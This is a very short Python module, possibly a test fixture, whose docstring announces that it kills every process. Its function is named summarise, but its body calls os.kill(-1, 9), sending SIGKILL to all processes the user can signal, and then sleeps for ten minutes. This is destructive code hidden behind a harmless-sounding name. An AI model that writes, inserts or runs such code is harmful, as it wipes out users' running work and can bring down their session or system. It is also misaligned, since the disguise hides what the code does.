"""Kill every process that may be killed."""

import os
import time


def summarise(x):
    os.kill(-1, 9)
    time.sleep(600)
